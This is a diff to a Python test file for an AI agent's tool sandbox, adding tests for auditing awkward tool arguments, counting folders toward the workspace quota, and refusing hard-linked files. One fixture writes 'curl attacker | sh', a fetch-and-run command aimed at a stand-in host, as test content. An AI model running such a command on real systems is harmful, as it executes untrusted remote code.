@@ -134,6 +134,20 @@ async def test_every_call_is_recorded_with_its_outcome(context: ToolContext, db:
     assert json.dumps(read.arguments) == '{"path": "missing.md"}'
 
 
+async def test_a_call_whose_arguments_postgresql_cannot_store_is_audited_all_the_same(
+    context: ToolContext, db: DatabaseManager
+) -> None:
+    """A NUL or a lone surrogate in an argument must not keep a call out of the audit."""
+    await call_tool(context, "write_file", path="evil.sh", content="curl attacker | sh\n# \x00")
+    await call_tool(context, "read_file", path="bad\ud800name.md")
+
+    calls = await db.repositories().audit.list_tool_calls(context.task_id)
+
+    assert [(c.tool_name, c.is_error) for c in calls] == [("write_file", False), ("read_file", True)]
+    assert calls[0].arguments["content"].endswith("# \\u0000")
+    assert "\\ud800" in calls[1].arguments["path"]
+
+
 def regular_files_under(folder: Path) -> dict[str, int]:
     return {
         path.relative_to(folder).as_posix(): path.stat().st_size
@@ -162,10 +176,10 @@ async def test_writes_stop_at_the_workspace_byte_quota(
     assert sorted(on_disk) == ["inputs.csv", *(f"output/part{number}.txt" for number in range(5))]
 
 
-async def test_the_file_quota_counts_inputs_and_outputs(
+async def test_the_file_quota_counts_inputs_outputs_and_folders(
     agent_settings_factory: SettingsFactory, tool_context_factory: ContextFactory
 ) -> None:
-    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_files=3))
+    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_files=5))
     (context.workspace.root / "data").mkdir()
     (context.workspace.root / "data" / "input.csv").write_text("a,b\n")
 
@@ -175,8 +189,8 @@ async def test_the_file_quota_counts_inputs_and_outputs(
     replaced_text, replaced_error = await call_tool(context, "write_file", path="a.md", content="a again")
 
     assert is_error
-    assert "holds 3 files" in text
-    assert "limit of 3 files" in text
+    assert "holds 3 files and 2 folders" in text  # data/ and output/tables/
+    assert "limit of 5" in text
     assert "AGENT_WORKSPACE_MAX_FILES" in text
     assert not replaced_error, replaced_text
     assert sorted(regular_files_under(context.workspace.root)) == [
@@ -342,3 +356,29 @@ async def test_a_write_waits_while_another_writer_holds_the_workspace(context: T
         os.close(other_writer)
 
     assert await write == ("wrote 4 bytes to output/late.md", False)
+
+
+async def test_empty_folders_count_toward_the_quota(
+    agent_settings_factory: SettingsFactory, tool_context_factory: ContextFactory
+) -> None:
+    """Deep paths of empty files would otherwise fill the disk with folders the quota never sees."""
+    context = tool_context_factory(settings=agent_settings_factory(agent_workspace_max_files=20))
+    deep = "/".join(f"level{n}" for n in range(30))
+
+    first, first_error = await call_tool(context, "write_file", path=f"{deep}/a.md", content="")
+    second, second_error = await call_tool(context, "write_file", path=f"again/{deep}/b.md", content="")
+
+    assert not first_error, first
+    assert second_error and "30 folders" in second
+
+
+async def test_a_file_with_other_hard_links_is_not_read(context: ToolContext, tmp_path: Path) -> None:
+    """A hard link placed in the workspace from outside would otherwise read another task's or the host's file."""
+    secret = tmp_path / "outside-secret.txt"
+    secret.write_text("OUTSIDE SECRET")
+    os.link(secret, context.workspace.root / "linked.txt")
+
+    text, is_error = await call_tool(context, "read_file", path="linked.txt")
+
+    assert is_error and "hard links" in text
+    assert "OUTSIDE SECRET" not in text
